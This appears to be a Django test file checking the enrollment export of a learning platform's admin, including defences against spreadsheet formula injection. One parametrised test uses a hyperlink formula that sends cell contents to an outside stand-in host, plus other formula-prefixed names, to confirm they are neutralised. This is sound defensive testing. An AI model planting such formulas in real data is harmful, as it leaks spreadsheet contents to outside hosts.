"""Registrars take the list of enrollments away as a spreadsheet, which works nothing out by itself."""

import csv
import io

import openpyxl
import pytest
from django.contrib.auth.models import Group
from django.db import connection
from django.test.utils import CaptureQueriesContext

from accounts import actions as accounts
from accounts.groups import ADMINISTRATORS
from learning import actions
from learning.admin.exporting import COLUMNS, as_text
from tests.factories.accounts import UserFactory
from tests.factories.learning import a_series, modules_of

pytestmark = pytest.mark.django_db

URL = "/admin/learning/enrollments/"
TRAP = '=HYPERLINK("https://example.org/?"&A1)'


@pytest.fixture
def desk(client, registrar):
    client.force_login(registrar)
    return client


@pytest.fixture
def series():
    return a_series(modules=2, title="Allyship")


def table(answer):
    assert answer.status_code == 200
    text = b"".join(answer.streaming_content).decode()
    return list(csv.reader(io.StringIO(text)))


def test_the_list_is_taken_away_with_who_is_how_far(desk, learner, series):
    actions.enroll(learner, series, certificate_name="Zoë")
    actions.continue_module(learner, modules_of(series)[0])

    answer = desk.get(URL, {"export": "csv"})
    head, row = table(answer)

    assert 'filename="enrollments.csv"' in answer["Content-Disposition"]
    assert head[1:3] == ["Person", "E-mail address"]
    assert row[1:3] == ["Learner Example", "learner@example.org"]
    assert row[4:9] == ["Allyship", "1", "In progress", "1", "2"]


@pytest.mark.parametrize("name", [TRAP, "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"])
def test_a_name_that_is_a_formula_is_only_a_name(desk, series, name):
    person = UserFactory(full_name="Plain")
    type(person).objects.filter(pk=person.pk).update(full_name=name)
    person.refresh_from_db()
    actions.enroll(person, series, certificate_name="Zoë")

    row = table(desk.get(URL, {"export": "csv"}))[1]
    sheet = openpyxl.load_workbook(
        io.BytesIO(b"".join(desk.get(URL, {"export": "xlsx"}).streaming_content))
    ).active

    assert row[1].startswith("'")
    assert sheet.cell(2, 2).data_type == "s"
    assert not [cell for each in sheet.iter_rows() for cell in each if cell.data_type == "f"]


def test_the_trap_would_go_off_without_protection():
    assert TRAP.startswith("=")
    assert as_text(TRAP) == f"'{TRAP}"
    assert as_text("Zoë O’Neill") == "Zoë O’Neill"
    assert as_text(-1) == -1


def test_only_what_the_list_is_narrowed_to_is_taken_away(desk, learner, series):
    other = a_series(modules=1, title="Other")
    actions.enroll(learner, series, certificate_name="Zoë")
    actions.enroll(learner, other)

    rows = table(desk.get(URL, {"export": "csv", "series": other.pk}))

    assert [row[4] for row in rows] == ["Series", "Other"]


def test_the_erased_have_no_name_in_it(desk, learner, administrator, series):
    actions.enroll(learner, series, certificate_name="Zoë")
    accounts.erase(learner, by=administrator)

    row = table(desk.get(URL, {"export": "csv"}))[1]

    assert row[1:3] == ["Erased person", ""]


def test_who_only_looks_takes_nothing_away(client, series, learner):
    actions.enroll(learner, series, certificate_name="Zoë")
    keeper = UserFactory()
    keeper.groups.add(Group.objects.get(name=ADMINISTRATORS))
    client.force_login(keeper)

    assert client.get(URL).status_code == 200
    assert "export=csv" not in client.get(URL).content.decode()
    for kind in ("csv", "xlsx"):
        assert client.get(URL, {"export": kind}).status_code == 302


def test_the_list_offers_it_to_registrars(desk, series):
    page = desk.get(URL).content.decode()

    assert "export=csv" in page
    assert "export=xlsx" in page


def test_it_takes_the_same_queries_for_1_and_40_rows(desk, series):
    desk.get(URL)  # what is cached for everybody is there
    found = []
    for count in (1, 39):
        for _each in range(count):
            actions.enroll(UserFactory(), series, certificate_name="Zoë")
        with CaptureQueriesContext(connection) as queries:
            rows = table(desk.get(URL, {"export": "csv"}))
        found.append(len(queries))

    assert len(rows) == 41
    assert found[0] == found[1]
    assert len(rows[0]) == len(COLUMNS)
